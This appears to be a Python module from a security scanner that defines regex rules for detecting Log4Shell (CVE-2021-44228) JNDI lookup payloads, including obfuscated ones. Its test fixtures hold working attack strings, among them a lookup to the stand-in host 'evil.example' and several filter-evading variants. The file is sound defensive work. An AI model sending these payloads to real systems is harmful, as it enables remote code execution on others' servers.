"""Lookups that make a Java log load code (Log4Shell, CVE-2021-44228), plain and spelt in pieces."""

import re

from firebreak.detect.payload.form import payload
from firebreak.model.finding import Severity

_PIECE = re.compile(r"\$\{[^{}]*?([A-Za-z]{0,4})\}")


def spells_jndi(text: str) -> bool:
    """Whether a lookup whose name is put together from lookups is called `jndi`: each leaves its last letters."""
    return _PIECE.sub(lambda piece: piece[1], text).lower().removeprefix("${").startswith("jndi")


RULES = (
    payload(
        "jndi-lookup",
        r"\$\{\s{0,3}jndi\s{0,3}:|\$(?:%7b|&#123;|&lbrace;)jndi(?::|%3a)",
        "Lookup that loads code from an address",
        ("${jndi:ldap://evil.example/a}", "User-Agent: ${JNDI:rmi://x}", "$%7Bjndi:dns://x%7D"),
        ("the jndi lookup", "${java:version}"),
        score=0.95,
        severity=Severity.CRITICAL,
    ),
    payload(
        "jndi-disguised",
        r"\$\{(?:[A-Za-z]{0,4}\$\{[^{}\n]{1,60}\}[A-Za-z]{0,4}){1,6}:?",
        "Lookup that loads code, its name in pieces",
        (
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${j${env:NaN:-n}di${env:NaN:-:}ldap://x}",
        ),
        ("${${name}}", "${user${id}:x}"),
        score=0.95,
        severity=Severity.CRITICAL,
        trigger=r"\$\{[A-Za-z]*\$\{",
        check=spells_jndi,
    ),
)
